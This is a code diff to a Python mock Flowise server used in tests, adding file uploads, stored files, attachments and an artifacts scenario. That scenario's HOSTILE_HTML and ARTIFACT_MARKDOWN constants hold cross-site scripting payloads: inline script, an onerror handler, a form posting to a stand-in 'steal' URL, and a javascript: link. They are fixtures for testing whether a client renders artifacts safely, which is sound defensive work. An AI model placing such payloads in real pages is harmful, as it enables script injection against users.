@@ -7,17 +7,23 @@ recorded so tests can assert what the server received.
 
 from __future__ import annotations
 
+import base64
+import io
 import json
 import random
+import re
 import socket
 import struct
 import threading
 import time
 from collections.abc import Callable
 from dataclasses import dataclass, field
+from email.parser import BytesParser
+from email.policy import HTTP
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
+from urllib.parse import parse_qs, urlsplit
 
 FIXTURES = Path(__file__).parent / "fixtures" / "flowise-3.1.4"
 API_KEY = "sk-test-7f3a9c1e5b"
@@ -107,6 +113,10 @@ class FlowiseWire:
     injected: list[tuple[str, str]] = field(default_factory=list)
     # Set when a client hangs up in the middle of a slow answer.
     client_left: threading.Event = field(default_factory=threading.Event)
+    # Files kept per (flow, chat, name), as Flowise's storage keeps uploads and what flows make: (mime, bytes).
+    stored: dict[tuple[str, str, str], tuple[str, bytes]] = field(default_factory=dict)
+    # Messages per (flow, chat) in the shape GET /api/v1/chatmessage returns them, for the upload flows.
+    history: dict[tuple[str, str], list[dict[str, Any]]] = field(default_factory=dict)
     _server: ThreadingHTTPServer | None = None
     _stopping: threading.Event = field(default_factory=threading.Event)
 
@@ -135,12 +145,18 @@ class _Handler(BaseHTTPRequestHandler):
     def _record(self) -> Any:
         length = int(self.headers.get("Content-Length") or 0)
         raw = self.rfile.read(length) if length else b""
-        try:
-            body = json.loads(raw) if raw else None
-        except ValueError:
-            body = raw
+        if self.headers.get("Content-Type", "").startswith("multipart/form-data"):
+            body: Any = multipart(self.headers["Content-Type"], raw)
+        else:
+            try:
+                body = json.loads(raw) if raw else None
+            except ValueError:
+                body = raw
         self.wire.received.append(Received(self.command, self.path, dict(self.headers.items()), body))
         return body
+
+    def _flowise_error(self, status: int, message: str) -> None:
+        self._json(status, {"statusCode": status, "success": False, "message": message, "stack": {}})
 
     def _send(self, status: int, body: bytes, content_type: str) -> None:
         self.send_response(status)
@@ -197,11 +213,26 @@ class _Handler(BaseHTTPRequestHandler):
         elif self.path.startswith("/api/v1/chatflows/"):
             self._chatflow(self.path.rsplit("/", 1)[1])
         elif self.path.startswith("/api/v1/chatmessage/"):
-            # As Flowise: history only with an API key; the recorded conversation of the rag flow.
+            # As Flowise: history only with an API key; the upload flows' own conversations, else the
+            # recorded conversation of the rag flow.
+            flow_id = urlsplit(self.path).path.rsplit("/", 1)[1]
+            chat_id = (parse_qs(urlsplit(self.path).query).get("chatId") or [""])[0]
             if self.headers.get("Authorization") != f"Bearer {API_KEY}":
                 self._json(401, json.loads(fixture_bytes("chatmessage.nokey.json")))
+            elif (flow_id, chat_id) in self.wire.history:
+                self._json(200, self.wire.history[(flow_id, chat_id)])
             else:
                 self._json(200, json.loads(fixture_bytes("chatmessage.rag-history.json")))
+        elif self.path.startswith("/api/v1/chatflows-uploads/"):
+            flow_id = self.path.rsplit("/", 1)[1]
+            if flow_id not in _SCENARIOS:
+                message = f"Error: chatflowsService.checkIfChatflowIsValidForUploads - Chatflow {flow_id} not found"
+                self._flowise_error(500, message)
+            else:
+                self._json(200, UPLOADS_CONFIGS.get(flow_id, NO_UPLOADS))
+        elif self.path.startswith("/api/v1/get-upload-file?"):
+            query = {k: v[0] for k, v in parse_qs(urlsplit(self.path).query).items()}
+            self._stored_file(query.get("chatflowId", ""), query.get("chatId", ""), query.get("fileName", ""))
         elif self.path.startswith("/api/v1/public-chatbotConfig/"):
             flow_id = self.path.rsplit("/", 1)[1]
             self._json(200, CHATBOT_CONFIGS.get(flow_id) or json.loads(fixture_bytes("public-chatbotConfig.json")))
@@ -231,8 +262,26 @@ class _Handler(BaseHTTPRequestHandler):
         else:
             self._json(404, {"statusCode": 404, "success": False, "message": "Not found", "stack": {}})
 
+    def _stored_file(self, flow_id: str, chat_id: str, name: str) -> None:
+        stored = self.wire.stored.get((flow_id, chat_id, name))
+        if stored is None:
+            self._flowise_error(500, "Error: streamStorageFile")
+        else:
+            self._send(200, stored[1], stored[0])
+
     def do_POST(self) -> None:
         body = self._record()
+        if self.path.startswith("/api/v1/attachments/"):
+            _, flow_id, chat_id = self.path.rsplit("/", 2)
+            _attachments(self, flow_id, chat_id, body)
+            return
+        if self.path.startswith("/api/v1/vector/upsert/"):
+            _vector_upsert(self, body)
+            return
+        if self.path == "/api/v1/openai-assistants-file/download":
+            body = body if isinstance(body, dict) else {}
+            self._stored_file(str(body.get("chatflowId")), str(body.get("chatId")), str(body.get("fileName")))
+            return
         if self.path == "/api/v1/feedback":
             # As Flowise's feedback service: the stored entity, with the id a later PUT changes.
             self._json(200, {**(body if isinstance(body, dict) else {}), "id": f"feedback-{len(self.wire.received)}"})
@@ -431,8 +480,11 @@ def _echo(h: _Handler, body: dict, streaming: bool) -> None:
         h._json(200, {"text": text, **meta})
 
 
+# Full File Upload, as Flowise's configuration dialog stores it in the flow's chatbotConfig.
+FULL_FILE_UPLOAD = {"status": True, "allowedUploadFileTypes": "text/plain,text/csv", "pdfFile": {"usage": "perPage"}}
 # As the owner sets them in Flowise (Configuration → Chat → Starter Prompts) and its widget reads them.
 CHATBOT_CONFIGS = {
+    "full-files": {"fullFileUpload": FULL_FILE_UPLOAD},
     "welcome": {
         "welcomeMessage": "Здравствуйте! 👋 Ask me *anything*.",
         "starterPrompts": {"0": {"prompt": "What can you do?"}, "1": {"prompt": "Что такое **Flowise**?"}, "2": {"prompt": ""}},
@@ -559,6 +611,171 @@ def _chaos(h: _Handler, body: dict, streaming: bool) -> None:
         h.close_connection = True
 
 
+def multipart(content_type: str, raw: bytes) -> dict[str, Any]:
+    """A multipart/form-data body as ``{"fields": {name: text}, "files": [(field, file name, mime, bytes)]}``."""
+    message = BytesParser(policy=HTTP).parsebytes(f"Content-Type: {content_type}\r\n\r\n".encode() + raw)
+    fields, files = {}, []
+    for part in message.iter_parts():
+        field_name = part.get_param("name", header="content-disposition")
+        content = part.get_payload(decode=True) or b""
+        if part.get_filename() is not None:
+            files.append((field_name, part.get_filename(), part.get_content_type(), content))
+        else:
+            fields[field_name] = content.decode()
+    return {"fields": fields, "files": files}
+
+
+def png(width: int = 64, height: int = 40, colour: tuple[int, int, int] = (30, 120, 200)) -> bytes:
+    from PIL import Image
+
+    out = io.BytesIO()
+    Image.new("RGB", (width, height), colour).save(out, format="PNG")
+    return out.getvalue()
+
+
+# GET /api/v1/chatflows-uploads/{id}: a flow with no upload settings answers as below; "images" is the
+# recorded answer for a flow whose ChatOpenAI allows image uploads.
+NO_UPLOADS = {"isSpeechToTextEnabled": False, "isImageUploadAllowed": False, "isRAGFileUploadAllowed": False,
+              "imgUploadSizeAndTypes": [], "fileUploadSizeAndTypes": []}
+IMAGE_UPLOADS = json.loads(fixture_bytes("chatflows-uploads.json"))
+UPLOADS_CONFIGS = {
+    "images": IMAGE_UPLOADS,
+    # A vector store with "file upload" on, fed by a text loader (utils/getUploadsConfig.ts: 500 MB).
+    "rag-files": {**IMAGE_UPLOADS, "isRAGFileUploadAllowed": True,
+                  "fileUploadSizeAndTypes": [{"fileTypes": [".txt", ".md"], "maxUploadSize": 500}]},
+    "full-files": IMAGE_UPLOADS,
+    "voice": {**NO_UPLOADS, "isSpeechToTextEnabled": True},
+}
+# What the voice flow's speech-to-text "hears" in any recording.
+TRANSCRIPTION = "Какая столица Франции? What is the capital of France?"
+
+
+def _store_uploads(h: _Handler, flow_id: str, chat_id: str, uploads: list[Any]) -> list[dict[str, Any]] | None:
+    """Keeps each upload as Flowise's buildChatflow does and returns what its history stores, or None
+    (and an error answer) for an upload Flowise would fail on."""
+    stored = []
+    for upload in uploads:
+        if not isinstance(upload, dict):
+            h._flowise_error(500, "Error: predictionsServices.buildChatflow - upload is not an object")
+            return None
+        kind, data, name = upload.get("type"), upload.get("data"), str(upload.get("name") or "")
+        if kind in ("file", "file:rag", "audio") and data:
+            head, _, payload = str(data).partition(",")
+            if not head.startswith("data:") or not head.endswith(";base64"):
+                h._flowise_error(500, "Error: predictionsServices.buildChatflow - Cannot read properties of undefined")
+                return None
+            mime = head[5:].split(";")[0]
+            h.wire.stored[(flow_id, chat_id, name)] = (mime, base64.b64decode(payload))
+            stored.append({"type": "stored-file", "name": name, "mime": upload.get("mime")})
+        elif kind == "file:full" and data:
+            stored.append({"type": "stored-file:full", "name": name, "mime": upload.get("mime")})
+        else:
+            stored.append({key: value for key, value in upload.items()})
+    return stored
+
+
+def _message(flow_id: str, chat_id: str, role: str, content: str, **fields: Any) -> dict[str, Any]:
+    base = {"id": f"{role}-{time.monotonic_ns()}", "role": role, "chatflowid": flow_id, "executionId": None,
+            "content": content, "sourceDocuments": None, "usedTools": None, "fileAnnotations": None,
+            "agentReasoning": None, "reasonContent": None, "fileUploads": None, "artifacts": None, "action": None,
+            "chatType": "EXTERNAL", "chatId": chat_id, "memoryType": None, "sessionId": chat_id,
+            "createdDate": time.strftime("%Y-%m-%dT%H:%M:%S.000Z", time.gmtime()), "leadEmail": None,
+            "followUpPrompts": None, "execution": None}
+    return {**base, **fields}
+
+
+def _answer(h: _Handler, flow_id: str, body: dict, streaming: bool, text: str, question: str,
+            uploads: list[dict[str, Any]] | None, **extra: Any) -> None:
+    """Streams (or returns as JSON) ``text`` and ``extra`` events, and keeps the exchange as history."""
+    chat_id = str(body.get("chatId", ""))
+    history = h.wire.history.setdefault((flow_id, chat_id), [])
+    history.append(_message(flow_id, chat_id, "userMessage", question, fileUploads=uploads or None))
+    answer = _message(flow_id, chat_id, "apiMessage", text, **{k: v for k, v in extra.items()})
+    history.append(answer)
+    meta = {"chatId": chat_id, "chatMessageId": answer["id"], "question": question, "sessionId": chat_id}
+    if not streaming:
+        h._json(200, {"text": text, **extra, **meta})
+        return
+    events = frame("start", "") + b"".join(frame("token", word) for word in re.findall(r"\S+\s*", text))
+    events += b"".join(frame(name, value) for name, value in extra.items())
+    h._stream(events + frame("metadata", meta) + frame("end", "[DONE]"))
+
+
+def _uploads_echo(h: _Handler, body: dict, streaming: bool) -> None:
+    """Says what came with the question, as a flow that sees uploads would; speech becomes the question."""
+    flow_id, chat_id = h.path.rsplit("/", 1)[1], str(body.get("chatId", ""))
+    uploads = body.get("uploads") or []
+    stored = _store_uploads(h, flow_id, chat_id, uploads)
+    if stored is None:
+        return
+    question = str(body.get("question") or "")
+    if flow_id == "voice" and any(isinstance(u, dict) and u.get("mime") == "audio/ogg" for u in uploads):
+        question = TRANSCRIPTION
+    seen = ", ".join(f"{u.get('name')} ({u.get('type')}, {u.get('mime')})" for u in uploads if isinstance(u, dict))
+    _answer(h, flow_id, body, streaming, f"Question: {question or '(none)'}. Uploads: {seen or 'none'}.", question,
+            stored)
+
+
+def _attachments(h: _Handler, flow_id: str, chat_id: str, body: Any) -> None:
+    """POST /api/v1/attachments/{flow}/{chat}: the text of each file, for a flow with Full File Upload."""
+    config = CHATBOT_CONFIGS.get(flow_id, {}).get("fullFileUpload")
+    prefix = "Error: attachmentService.createAttachment - "
+    if not config or not config.get("status"):
+        h._flowise_error(500, prefix + "File upload is not enabled for this chatflow")
+        return
+    allowed = config["allowedUploadFileTypes"].split(",")
+    extracted = []
+    for _field, name, mime, content in body["files"] if isinstance(body, dict) else []:
+        if mime not in allowed:
+            h._flowise_error(500, prefix + f"File type '{mime}' is not allowed. Allowed types: {', '.join(allowed)}")
+            return
+        h.wire.stored[(flow_id, chat_id, name)] = (mime, content)
+        extracted.append({"name": name, "mimeType": mime, "size": len(content), "content": content.decode()})
+    h._json(200, extracted)
+
+
+def _vector_upsert(h: _Handler, body: Any) -> None:
+    """POST /api/v1/vector/upsert/{flow}: not among Flowise's public endpoints, so it needs the key."""
+    if h.headers.get("Authorization") != f"Bearer {API_KEY}":
+        h._json(401, {"error": "Unauthorized Access"})
+        return
+    files = body["files"] if isinstance(body, dict) else []
+    h._json(200, {"numAdded": len(files), "numDeleted": 0, "numUpdated": 0, "numSkipped": 0,
+                  "addedDocs": [{"pageContent": f[3].decode(errors="replace"), "metadata": {"source": f[1]}}
+                                for f in files]})
+
+
+CHART_PNG = png(320, 200, (220, 90, 40))
+# An HTML artifact that would run script in, or reach out of, the page if it were rendered as is.
+HOSTILE_HTML = (
+    "<h2>Quarterly report</h2><p id='note'>Rendered from the flow.</p>"
+    "<script>window.parent.__pwned = 'artifact-script'; window.top.__pwned = 'artifact-top';"
+    "document.getElementById('note').textContent = 'SCRIPT RAN'; alert('artifact')</script>"
+    "<img src=x onerror=\"window.top.__pwned='artifact-img'\">"
+    "<form action='https://example.invalid/steal'><input name=q><button>Send</button></form>"
+)
+ARTIFACT_MARKDOWN = "### Summary\n\n**Revenue** grew. [Safe](https://example.org) [Bad](javascript:alert('md'))"
+REPORT_CSV = "quarter,revenue\nQ1,10\nQ2,12\n".encode()
+
+
+def _artifacts(h: _Handler, body: dict, streaming: bool) -> None:
+    """An answer with the artifacts a code interpreter or image tool sends, and a file to download."""
+    flow_id, chat_id = h.path.rsplit("/", 1)[1], str(body.get("chatId", ""))
+    h.wire.stored[(flow_id, chat_id, "chart.png")] = ("image/png", CHART_PNG)
+    h.wire.stored[(flow_id, chat_id, "report.csv")] = ("text/csv", REPORT_CSV)
+    inline = "data:image/png;base64," + base64.b64encode(png(48, 48, (40, 160, 60))).decode()
+    artifacts = [
+        {"type": "png", "data": "FILE-STORAGE::chart.png"},
+        {"type": "png", "data": inline},
+        {"type": "markdown", "data": ARTIFACT_MARKDOWN},
+        {"type": "html", "data": HOSTILE_HTML},
+        {"type": "png", "data": "FILE-STORAGE::missing.png"},
+    ]
+    annotations = [{"filePath": "FILE-STORAGE::report.csv", "fileName": "report.csv"}]
+    _answer(h, flow_id, body, streaming, "Here is the chart you asked for.", str(body.get("question", "")), None,
+            artifacts=artifacts, fileAnnotations=annotations)
+
+
 _SCENARIOS: dict[str, Callable[[_Handler, dict, bool], None]] = {
     "plain": _replay("plain.stream.sse", "plain.json"),
     "rag": _replay("rag.stream.sse", "rag.json"),
@@ -590,6 +807,11 @@ _SCENARIOS: dict[str, Callable[[_Handler, dict, bool], None]] = {
     "hostile": _hostile,
     "huge": _huge,
     "chaos": _chaos,
+    "images": _uploads_echo,
+    "rag-files": _uploads_echo,
+    "full-files": _uploads_echo,
+    "voice": _uploads_echo,
+    "artifacts": _artifacts,
 }
 
 
